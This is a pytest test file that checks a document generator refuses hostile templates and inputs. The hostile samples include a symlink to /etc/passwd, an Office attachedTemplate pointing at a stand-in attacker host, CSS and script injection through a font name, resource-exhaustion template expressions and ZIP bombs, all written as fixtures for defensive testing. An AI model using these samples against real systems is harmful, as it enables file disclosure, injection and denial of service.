"""Bounded work and memory, and templates that cannot reach out: each case is one exact line,
a non-zero exit, and nothing written (issue 12, items 2, 3 and 5).

Hostile templates are built in temporary directories; the minimal fact file keeps renders short.
"""

from __future__ import annotations

import io
import os
import struct
import time
import zipfile
import zlib
from pathlib import Path

import pytest

from generator.limits import read_regular_file
from tests.conftest import REPO, root

MINIMAL = root("minimal") / "facts.yaml"
BUNDLED = REPO / "templates"


def run_cli(*args: str | Path):
    from click.testing import CliRunner

    from generator.commands.cli import main

    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


def said(result) -> str:
    """Standard error without the progress lines a build prints as each document starts."""
    return "".join(line for line in result.stderr.splitlines(keepends=True) if not line.startswith("rendering "))


def listing(folder: Path) -> list[str]:
    """Every path under ``folder`` (links not followed), to show nothing was added or removed."""
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))


@pytest.fixture
def work(tmp_path, monkeypatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


def outline(work: Path, text: str) -> None:
    path = work / "t" / "slides" / "outline.md.jinja"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


# --- templates cannot reach out ---------------------------------------------------------------

@pytest.mark.slow
def test_a_link_out_of_the_template_directory_is_refused_in_check_and_build(work):
    (work / "t" / "brief").mkdir(parents=True)
    (work / "t" / "brief" / "secret.html.jinja").symlink_to("/etc/passwd")
    (work / "t" / "brief" / "brief.html.jinja").write_text(
        '{% extends "builtin:brief/brief.html.jinja" %}\n{% block cover %}{% include "brief/secret.html.jinja" %}'
        "{% endblock %}\n", encoding="utf-8")
    line = ("t/brief/brief.html.jinja:2: refused to read the template brief/secret.html.jinja: it is a link to "
            "/etc/passwd, outside the template directories")
    check = run_cli("check", "--facts", MINIMAL, "--templates", "t")
    assert check.exit_code == 1
    assert check.stderr == f"error: brief (vi): {line}\nerror: brief (en): {line}\n"
    build = run_cli("brief", "--facts", MINIMAL, "--templates", "t", "--out", "out", "--lang", "en")
    assert build.exit_code == 1 and said(build) == f"error: {line}\n"
    assert "root:" not in build.output and not (work / "out").exists()


@pytest.mark.slow
def test_a_link_inside_the_template_directories_is_followed(work):
    (work / "t" / "slides").mkdir(parents=True)
    (work / "t" / "real.md.jinja").write_text((BUNDLED / "slides" / "outline.md.jinja").read_text("utf-8"), "utf-8")
    (work / "t" / "slides" / "outline.md.jinja").symlink_to(work / "t" / "real.md.jinja")
    result = run_cli("slides", "--facts", MINIMAL, "--templates", "t", "--out", "out", "--lang", "en", "--jobs", "1")
    assert result.exit_code == 0, result.output
    assert (work / "out" / "en" / "facts-slides.md").is_file()


def test_a_word_template_linked_from_outside_is_refused(work):
    import shutil

    shutil.copy(BUNDLED / "handout" / "handout.docx", work / "elsewhere.docx")
    (work / "t" / "handout").mkdir(parents=True)
    (work / "t" / "handout" / "handout.docx").symlink_to(work / "elsewhere.docx")
    build = run_cli("handout", "--facts", MINIMAL, "--templates", "t", "--out", "out", "--lang", "en")
    assert build.exit_code == 1
    assert said(build) == (f"error: refused to read the template handout/handout.docx: it is a link to "
                            f"{work / 'elsewhere.docx'}, outside the template directory {work / 't'}\n")
    assert not (work / "out").exists()


def test_a_named_pipe_as_a_template_is_refused_without_waiting(work):
    (work / "t" / "slides").mkdir(parents=True)
    os.mkfifo(work / "t" / "slides" / "outline.md.jinja")
    result = run_cli("slides", "--facts", MINIMAL, "--templates", "t", "--out", "out", "--lang", "en")
    assert result.exit_code == 1
    assert said(result) == ("error: slides/outline.md.jinja: refused to read the template slides/outline.md.jinja: "
                             "expected a regular file, found a named pipe\n")
    assert not (work / "out").exists()


def with_part(package: Path, target: Path, name: str, data: bytes) -> None:
    """``package`` copied to ``target`` with the part ``name`` added or replaced."""
    with zipfile.ZipFile(package) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as copy:
        for info in source.infolist():
            if info.filename != name:
                copy.writestr(info, source.read(info))
        copy.writestr(name, data)


RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org'
        '/package/2006/relationships">{}</Relationships>')
ATTACHED_TEMPLATE = ('<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                     'attachedTemplate" Target="file://attacker.example/share/t.dotx" TargetMode="External"/>')
HYPERLINK = ('<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
             'hyperlink" Target="https://example.org/" TargetMode="External"/>')


def test_a_word_template_with_an_attached_template_is_refused(work):
    (work / "t" / "handout").mkdir(parents=True)
    with_part(BUNDLED / "handout" / "handout.docx", work / "t" / "handout" / "handout.docx",
              "word/_rels/settings.xml.rels", RELS.format(ATTACHED_TEMPLATE).encode())
    line = ("t/handout/handout.docx: word/_rels/settings.xml.rels: relationship rId1 (attachedTemplate) points outside "
            "the package to 'file://attacker.example/share/t.dotx'; an office program would fetch it on opening, and "
            "only plain hyperlinks may point outside (remove the attachedTemplate in Word or PowerPoint)")
    check = run_cli("check", "--facts", MINIMAL, "--templates", "t")
    assert check.exit_code == 1 and check.stderr == f"error: {line}\n"
    build = run_cli("handout", "--facts", MINIMAL, "--templates", "t", "--out", "out", "--lang", "en")
    assert build.exit_code == 1 and said(build) == f"error: {line}\n"
    assert not (work / "out").exists()


def test_a_word_template_with_a_plain_hyperlink_is_accepted(work):
    from generator.renderers.ooxml import read_template_package

    path = work / "handout.docx"
    with zipfile.ZipFile(BUNDLED / "handout" / "handout.docx") as package:
        rels = package.read("word/_rels/document.xml.rels").decode()
    with_part(BUNDLED / "handout" / "handout.docx", path, "word/_rels/document.xml.rels",
              rels.replace("</Relationships>", HYPERLINK + "</Relationships>").encode())
    assert read_template_package(path, "handout.docx") == path.read_bytes()


def test_a_slide_master_with_a_linked_picture_is_refused(work):
    (work / "t" / "slides").mkdir(parents=True)
    linked = ('<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
              'Target="http://127.0.0.1:9/track.png" TargetMode="External"/>')
    with zipfile.ZipFile(BUNDLED / "slides" / "master.pptx") as package:
        rels = package.read("ppt/slideMasters/_rels/slideMaster1.xml.rels").decode()
    with_part(BUNDLED / "slides" / "master.pptx", work / "t" / "slides" / "master.pptx",
              "ppt/slideMasters/_rels/slideMaster1.xml.rels", rels.replace("</Relationships>", linked + "</Relationships>").encode())
    line = ("t/slides/master.pptx: ppt/slideMasters/_rels/slideMaster1.xml.rels: relationship rId7 (image) points outside "
            "the package to 'http://127.0.0.1:9/track.png'; an office program would fetch it on opening, and only plain "
            "hyperlinks may point outside (remove the image in Word or PowerPoint)")
    build = run_cli("slides", "--facts", MINIMAL, "--templates", "t", "--out", "out", "--lang", "en")
    assert build.exit_code == 1 and said(build) == f"error: {line}\n"
    check = run_cli("check", "--facts", MINIMAL, "--templates", "t")
    assert check.exit_code == 1 and check.stderr == f"error: slides outline (vi): {line}\nerror: slides outline (en): {line}\n"
    assert not (work / "out").exists()


EVIL_FONT = 'Evil"; } body { background: url(http://127.0.0.1:9/x.png) } </style><script>x</script> "'


def brand_with_evil_font(folder: Path) -> Path:
    (folder / "brand.yaml").write_text(f"fonts:\n  body: '{EVIL_FONT}'\n  heading: '{EVIL_FONT}'\n", encoding="utf-8")
    return folder / "brand.yaml"


def test_brand_font_names_are_escaped_in_both_stylesheets(tmp_path):
    """The download page's stylesheet and the brief's: the font name stays one CSS string."""
    import tinycss2

    from generator.templating.brand import load_brand
    from generator.templating.context import template_context
    from generator.facts.load import load_facts
    from generator.renderers.brief.html import render_html
    from generator.output.site import STYLESHEET
    from generator.templating.environment import create_environment, render_template
    from generator.templating.paths import TemplatePath

    templates = TemplatePath()
    brand = load_brand(templates, brand_with_evil_font(tmp_path))
    loaded = load_facts(MINIMAL)
    env = create_environment(templates)
    site_css = render_template(env, STYLESHEET, template_context(loaded, "en", templates, brand=brand))
    html = render_html(env, template_context(loaded, "en", templates, brand=brand), templates)
    brief_css = html.split("<style>", 1)[1].split("</style>", 1)[0]
    fonts = {}
    for css in (site_css, brief_css):
        for rule in tinycss2.parse_stylesheet(css, skip_comments=True, skip_whitespace=True):
            for declaration in tinycss2.parse_blocks_contents(rule.content or [], skip_comments=True, skip_whitespace=True):
                if getattr(declaration, "lower_name", "") in ("--font", "font-family"):
                    strings = tuple(t.value for t in declaration.value if t.type == "string")
                    fonts.setdefault(declaration.lower_name, []).append(strings)
    # Every stack names the font whole, as one string: first, or after a script's own font
    # (the download page's Arabic and Chinese rules).
    assert fonts["--font"] and all(EVIL_FONT in strings for strings in fonts["--font"])
    assert any(strings[:1] == (EVIL_FONT,) for strings in fonts["--font"])
    assert any(strings[:1] == (EVIL_FONT,) for strings in fonts["font-family"])


def test_the_css_helper_escapes_what_could_end_a_string_or_the_style_element():
    from generator.templating.css import css_colour, css_font_stack, css_string

    assert css_string('a "b" \\ c') == '"a \\"b\\" \\\\ c"'
    assert css_string("x</style>\ny") == '"x\\3c /style\\3e \\a y"'
    assert css_font_stack(['Times "X"', "serif"]) == '"Times \\"X\\"", serif'
    assert css_colour("#1f3864") == "#1f3864"
    from generator.errors import TemplateError

    with pytest.raises(TemplateError, match=r"^expected a colour such as #1f3864 for the stylesheet, found 'red;x'$"):
        css_colour("red;x")


# --- bounded work ---------------------------------------------------------------------------------

def render_expression(tmp_path: Path, body: str) -> str:
    from generator.templating.context import template_context
    from generator.facts.load import load_facts
    from generator.templating.environment import create_environment, render_template
    from generator.templating.paths import TemplatePath

    (tmp_path / "t.txt.jinja").write_text("first line\n" + body + "\n", encoding="utf-8")
    templates = TemplatePath(overrides=(tmp_path,))
    return render_template(create_environment(templates), "t.txt.jinja", template_context(load_facts(MINIMAL), "en", templates))


UNBOUNDED = [
    ("range", "{% for i in range(1000000) %}{% endfor %}", "range() of 1,000,000 numbers; at most 100,000 are allowed"),
    ("string-repetition", '{{ "x" * 3000000000 }}',
     "repeating a text or list would make 3,000,000,000 characters or items; at most 1,000,000 are allowed"),
    ("list-repetition", "{{ [1, 2] * 600000 }}",
     "repeating a text or list would make 1,200,000 characters or items; at most 1,000,000 are allowed"),
    ("repetition-on-the-left", '{{ 3000000000 * "x" }}',
     "repeating a text or list would make 3,000,000,000 characters or items; at most 1,000,000 are allowed"),
    ("exponent", "{{ 10 ** 1000000000 }}", "10 ** 1,000,000,000 is too large a number (at most 10,000 binary digits are allowed)"),
    ("float-exponent", "{{ 10.0 ** 1000 }}", "10.0 ** 1000 is too large a number"),
    ("format-width", '{{ "{:>1500000000}".format(1) }}',
     "a format width or precision of at most 1,000 is allowed, found 1,500,000,000 in '>1500000000'"),
    ("nested-format-width", '{{ "{:>{w}}".format(1, w=1500000000) }}',
     "a format width or precision of at most 1,000 is allowed, found 1,500,000,000 in '>1500000000'"),
    ("date-width", '{{ "{d:%1500000000d}".format(d=facts.document.as_of) }}',
     "a format width or precision of at most 1,000 is allowed, found 1,500,000,000 in '%1500000000d'"),
    ("printf-width", '{{ "%1500000000s" % "x" }}',
     "a format width or precision of at most 1,000 is allowed, found 1,500,000,000 in '1500000000'"),
    ("printf-star", '{{ "%*s" % (1500000000, "x") }}', "a format width taken from the arguments (*) is not allowed, found '*'"),
    ("format-filter", '{{ "%.1500000000f"|format(1.5) }}',
     "a format width or precision of at most 1,000 is allowed, found 1,500,000,000 in '.1500000000'"),
    ("ljust", '{{ "x".ljust(1000000000) }}', "ljust() would make 1,000,000,000 characters or items; at most 1,000,000 are allowed"),
    ("center-filter", '{{ "x"|center(1000000000) }}', "center would make 1,000,000,000 characters or items; at most 1,000,000 are allowed"),
    ("replace-filter", '{{ ("x" * 1000)|replace("", "y" * 1000) }}',
     "replace would make 1,002,000 characters or items; at most 1,000,000 are allowed"),
    ("batch-fill", '{{ [1]|batch(1000000000, 0)|list }}', "batch would make 1,000,000,000 characters or items; at most 1,000,000 are allowed"),
    ("recursive-macro", "{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}",
     "templates call each other too deeply (a macro or include that calls itself without end?); stopped"),
]


@pytest.mark.parametrize("body, message", [pytest.param(b, m, id=i) for i, b, m in UNBOUNDED])
def test_the_sandbox_refuses_unbounded_work_in_one_line(body, message, tmp_path):
    from generator.errors import TemplateError

    with pytest.raises(TemplateError) as caught:
        render_expression(tmp_path, body)
    assert caught.value.format_message() == f"{tmp_path / 't.txt.jinja'}:2: {message}"


def test_bounded_operations_within_the_limits_still_work(tmp_path):
    text = render_expression(tmp_path, '{{ "ab" * 3 }} {{ 2 ** 10 }} {{ "{:>5}".format(7) }} {{ "%05.1f" % 2.25 }} '
                                       '{{ range(3)|list }} {{ "x".ljust(3) }}|')
    assert text == "first line\nababab 1024     7 002.2 [0, 1, 2] x  |\n"


@pytest.mark.slow
def test_a_render_past_its_time_budget_stops_with_one_line(work):
    outline(work, "---\n{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}\n")
    started = time.monotonic()
    build = run_cli("slides", "--facts", MINIMAL, "--templates", "t", "--out", "out", "--lang", "en",
                    "--time-budget", "5", "--jobs", "1")
    assert time.monotonic() - started < 60  # stopped, not run to the end (hours)
    assert build.exit_code == 1
    assert said(build) == ("error: t/slides/outline.md.jinja:2: rendering slides (en) took longer than its time budget "
                            "of 5 s and was stopped (a loop without end?); if the document needs longer, raise the budget "
                            "with --time-budget SECONDS or time_budget in generate.toml\n")
    assert not (work / "out").exists()
    check = run_cli("check", "--facts", MINIMAL, "--templates", "t", "--time-budget", "5")
    assert check.exit_code == 1  # (on a very slow machine the brief's own check may exceed 5 s too: not asserted)
    timed_out = ("error: slides: t/slides/outline.md.jinja:2: rendering the slides templates took longer than "
                 "its time budget of 5 s and was stopped (a loop without end?); if the document needs longer, "
                 "raise the budget with --time-budget SECONDS or time_budget in generate.toml\n")
    assert check.stderr.count(timed_out) == 1  # once for the kind, though each language is linted apart


def test_the_time_budget_is_read_from_generate_toml(work):
    from generator.commands.config import load_config

    (work / "generate.toml").write_text("time_budget = 30\n", encoding="utf-8")
    assert load_config().get("time_budget") == 30.0
    (work / "generate.toml").write_text('time_budget = "soon"\n', encoding="utf-8")
    result = run_cli("check", "--facts", MINIMAL)
    assert result.exit_code == 1
    assert result.stderr == (f"error: {work / 'generate.toml'}:1: time_budget: expected a number of seconds from 0 "
                             f"(no limit) to 86400, found 'soon'\n")


@pytest.mark.slow
def test_a_label_with_a_huge_format_width_is_refused(work):
    (work / "t" / "labels").mkdir(parents=True)
    (work / "t" / "labels" / "en.yaml").write_text('text:\n  generated_with: "{version} {date:>1500000000}"\n', "utf-8")
    line = ("t/labels/en.yaml:2:19: text.generated_with: a format width or precision of at most 1,000 is allowed, "
            "found 1,500,000,000 in '>1500000000'")
    check = run_cli("check", "--facts", MINIMAL, "--templates", "t")
    assert check.exit_code == 1 and f"error: {line}\n" in check.stderr
    build = run_cli("all", "--facts", MINIMAL, "--templates", "t", "--out", "out")
    assert build.exit_code == 1 and build.stderr.splitlines()[-1] == f"error: {line}"
    assert not (work / "out").exists()


# --- only regular files, of bounded size --------------------------------------------------------

@pytest.mark.parametrize("option", ["--facts", "--brand"])
def test_a_device_as_facts_or_brand_is_refused_at_once(option, work):
    args = ["--facts", MINIMAL, "--brand", "/dev/zero"] if option == "--brand" else ["--facts", "/dev/zero"]
    started = time.monotonic()
    result = run_cli("all", *args, "--out", "out")
    assert time.monotonic() - started < 30
    assert result.exit_code == 1
    expected = "error: /dev/zero: expected a regular file, found a character device\n"
    if option == "--facts":
        expected += "error: 1 problem in /dev/zero; nothing was generated.\n"
    assert result.stderr == expected
    assert listing(work) == []


def test_a_named_pipe_as_facts_is_refused_without_waiting_for_a_writer(work):
    os.mkfifo(work / "facts.yaml")
    result = run_cli("check", "--facts", "facts.yaml")
    assert result.exit_code == 1
    assert result.stderr == "error: facts.yaml: expected a regular file, found a named pipe\n"


def test_reading_stops_at_the_limit(tmp_path):
    from generator.errors import InputRefused

    (tmp_path / "f").write_bytes(b"x" * 101)
    assert read_regular_file(tmp_path / "f", 101) == b"x" * 101
    with pytest.raises(InputRefused, match=r"^expected a file under 0.0001 MB, found 101 bytes$"):
        read_regular_file(tmp_path / "f", 100)


# --- generate.toml ---------------------------------------------------------------------------------

CONFIGS = [
    ("not-utf8", b'out = "x"\nfacts = "caf\xe9.yaml"\n', "{file}:2: expected UTF-8 text, found bytes that are not UTF-8"),
    ("deeply-nested", b"out = " + b"[" * 100_000 + b"]" * 100_000 + b"\n",
     "{file}: expected settings nested a few levels deep at most, found arrays or tables nested too deeply to read"),
    ("a-directory", None, "{file}: expected a regular file, found a directory"),
]


@pytest.mark.parametrize("name, content, message", CONFIGS, ids=[c[0] for c in CONFIGS])
def test_a_broken_generate_toml_is_one_line(name, content, message, work):
    config = work / "generate.toml"
    if content is None:
        config.mkdir()
    else:
        config.write_bytes(content)
    before = listing(work)
    result = run_cli("all", "--facts", MINIMAL)
    assert result.exit_code == 1
    assert result.stderr == "error: " + message.format(file=config) + "\n"
    assert listing(work) == before


def test_generate_toml_linked_to_a_device_is_refused_at_once(work):
    (work / "generate.toml").symlink_to("/dev/zero")
    result = run_cli("check")
    assert result.exit_code == 1
    assert result.stderr == f"error: {work / 'generate.toml'}: expected a regular file, found a character device\n"


# --- logos ---------------------------------------------------------------------------------------

def png_header(width: int, height: int) -> bytes:
    """A PNG that claims ``width`` × ``height`` pixels, with almost no pixel data (never decoded)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b""))


def jpeg_bytes() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(buffer, "JPEG")
    return buffer.getvalue()


LOGOS = [
    ("huge", "logo.png", lambda: png_header(12_000, 12_000),
     "'logo.png' is 12,000 × 12,000 pixels (144 megapixels); expected at most 25 megapixels (a logo of 2000 × 2000 "
     "prints sharp)"),
    ("jpeg-named-png", "logo.png", jpeg_bytes,
     "'logo.png' is a JPEG image, not the PNG image its name says; rename it or convert it"),
    ("text-named-png", "logo.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>\n",
     "'logo.png' is not a PNG image (its content is not a PNG or JPEG image)"),
    ("truncated-jpeg", "logo.jpg", lambda: jpeg_bytes()[:10],
     "'logo.jpg' is not a JPEG image (its content is not a PNG or JPEG image)"),
]


@pytest.mark.parametrize("name, filename, content, message", LOGOS, ids=[logo[0] for logo in LOGOS])
def test_a_logo_that_is_not_a_usable_image_is_one_line(name, filename, content, message, work):
    (work / "t").mkdir()
    (work / "t" / filename).write_bytes(content())
    (work / "t" / "brand.yaml").write_text(f"logo: {filename}\n", encoding="utf-8")
    line = f"error: t/brand.yaml:1:7: logo: {message}\n"
    check = run_cli("check", "--facts", MINIMAL, "--templates", "t")
    assert check.exit_code == 1 and check.stderr == line
    build = run_cli("all", "--facts", MINIMAL, "--templates", "t", "--out", "out")
    assert build.exit_code == 1 and build.stderr == line
    assert not (work / "out").exists()


def test_a_huge_logo_is_refused_from_its_header_alone(tmp_path):
    import tracemalloc

    from generator.templating.brand import logo_problem

    (tmp_path / "logo.png").write_bytes(png_header(12_000, 12_000))
    tracemalloc.start()
    problem = logo_problem(tmp_path / "logo.png", "logo.png")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert problem.startswith("'logo.png' is 12,000 × 12,000 pixels") and peak < 5_000_000


# --- Word and PowerPoint templates: ZIP bombs ------------------------------------------------------

def bomb(target: Path, megabytes: int) -> None:
    """The bundled handout with one more part of ``megabytes`` MB of zeros (a few hundred kB compressed)."""
    with zipfile.ZipFile(BUNDLED / "handout" / "handout.docx") as source, \
            zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as copy:
        for info in source.infolist():
            copy.writestr(info, source.read(info))
        with copy.open("word/media/zeros.bin", "w") as part:
            block = b"\0" * 1_000_000
            for _ in range(megabytes):
                part.write(block)


def test_a_zip_bomb_as_the_word_template_is_refused_before_extraction(work):
    (work / "t" / "handout").mkdir(parents=True)
    bomb(work / "t" / "handout" / "handout.docx", 201)
    assert (work / "t" / "handout" / "handout.docx").stat().st_size < 500_000
    build = run_cli("handout", "--facts", MINIMAL, "--templates", "t", "--out", "out", "--lang", "en")
    assert build.exit_code == 1
    with zipfile.ZipFile(BUNDLED / "handout" / "handout.docx") as source:  # the template's own parts, plus the zeros
        total = sum(info.file_size for info in source.infolist()) + 201_000_000
    assert said(build) == (f"error: t/handout/handout.docx: its parts would take {total:,} bytes once decompressed; "
                            "expected at most 200 MB (a ZIP bomb?)\n")
    assert not (work / "out").exists()


def test_a_part_that_expands_a_thousandfold_is_refused(work):
    from generator.errors import TemplateError
    from generator.renderers.ooxml import read_template_package

    bomb(work / "handout.docx", 2)
    with zipfile.ZipFile(work / "handout.docx") as package:
        compressed = package.getinfo("word/media/zeros.bin").compress_size
    with pytest.raises(TemplateError) as caught:
        read_template_package(work / "handout.docx", "handout.docx")
    assert caught.value.format_message() == (f"handout.docx: word/media/zeros.bin: {compressed:,} bytes would decompress "
                                             f"to 2,000,000, more than 200 times as much (a ZIP bomb?)")


def test_a_file_that_is_no_package_is_one_line(tmp_path):
    from generator.errors import TemplateError
    from generator.renderers.ooxml import read_template_package

    (tmp_path / "handout.docx").write_text("not a zip", encoding="utf-8")
    with pytest.raises(TemplateError) as caught:
        read_template_package(tmp_path / "handout.docx", "handout.docx")
    assert caught.value.format_message() == ("handout.docx: expected a Word or PowerPoint file (a ZIP package), "
                                             "found a file that is not one")


# --- templates eject and schema -o: everything checked first, nothing written on refusal ---------------

def test_eject_blocked_by_an_existing_file_copies_nothing(work):
    (work / "mine" / "brief").mkdir(parents=True)
    (work / "mine" / "brief" / "style.css.jinja").write_text("my own\n", encoding="utf-8")
    before = listing(work)
    result = run_cli("templates", "eject", "brief", "--to", "mine")
    assert result.exit_code == 1
    assert result.stderr == "error: refusing to copy into mine: mine/brief/style.css.jinja exists (nothing was copied)\n"
    assert listing(work) == before and (work / "mine" / "brief" / "style.css.jinja").read_text("utf-8") == "my own\n"


def test_eject_blocked_by_a_file_where_a_folder_is_needed_copies_nothing(work):
    (work / "mine").mkdir()
    (work / "mine" / "brief").write_text("a file\n", encoding="utf-8")
    before = listing(work)
    result = run_cli("templates", "eject", "brief", "--to", "mine")
    assert result.exit_code == 1
    assert result.stderr == ("error: refusing to copy into mine: mine/brief is a file where a folder is needed "
                             "(nothing was copied)\n")
    assert listing(work) == before


def test_eject_does_not_follow_a_dangling_link_out_of_its_folder(work):
    (work / "mine" / "brief").mkdir(parents=True)
    (work / "mine" / "brief" / "style.css.jinja").symlink_to(work / "outside" / "planted.css")
    before = listing(work)
    result = run_cli("templates", "eject", "brief", "--to", "mine")
    assert result.exit_code == 1
    assert result.stderr == ("error: refusing to copy into mine: mine/brief/style.css.jinja is a symbolic link "
                             "(nothing was copied)\n")
    assert listing(work) == before and not (work / "outside").exists()


def test_eject_into_a_new_folder_copies_every_file(work):
    result = run_cli("templates", "eject", "slides", "--to", "mine")
    assert result.exit_code == 0, result.output
    assert listing(work / "mine") == ["slides", "slides/README.md", "slides/marp-theme.css", "slides/master.pptx",
                                      "slides/outline.md.jinja"]
    assert (work / "mine" / "slides" / "master.pptx").read_bytes() == (BUNDLED / "slides" / "master.pptx").read_bytes()


def test_schema_into_a_missing_folder_is_one_line(work):
    result = run_cli("schema", "-o", "missing/folder/schema.json")
    assert result.exit_code == 1
    assert result.stderr == ("error: cannot write missing/folder/schema.json: the folder missing/folder does not exist; "
                             "create it first\n")
    assert listing(work) == []


def test_the_build_cache_reads_no_file_the_templates_may_not(work, monkeypatch):
    """Links out of the template directory, devices and pipes lying in it are never read, and
    do not stop a build that does not use them."""
    from generator.pipeline.cache import TemplateSnapshot
    from generator.templating.paths import TemplatePath

    (work / "t").mkdir()
    (work / "t" / "passwd.txt").symlink_to("/etc/passwd")
    (work / "t" / "zero.txt").symlink_to("/dev/zero")
    os.mkfifo(work / "t" / "pipe.txt")
    opened: list[str] = []
    real_read = read_regular_file
    monkeypatch.setattr("generator.pipeline.cache.read_regular_file", lambda path, limit: opened.append(str(path)) or real_read(path, limit))
    snapshot = TemplateSnapshot.take(TemplatePath(overrides=(work / "t",)))
    assert snapshot.digests["0:passwd.txt"].startswith("outside:")
    assert "0:zero.txt" not in snapshot.digests and "0:pipe.txt" not in snapshot.digests
    assert not any(path.startswith(("/etc", "/dev")) or "pipe" in path for path in opened)
    result = run_cli("slides", "--facts", MINIMAL, "--templates", "t", "--out", "out", "--lang", "en", "--jobs", "1")
    assert result.exit_code == 0, result.output
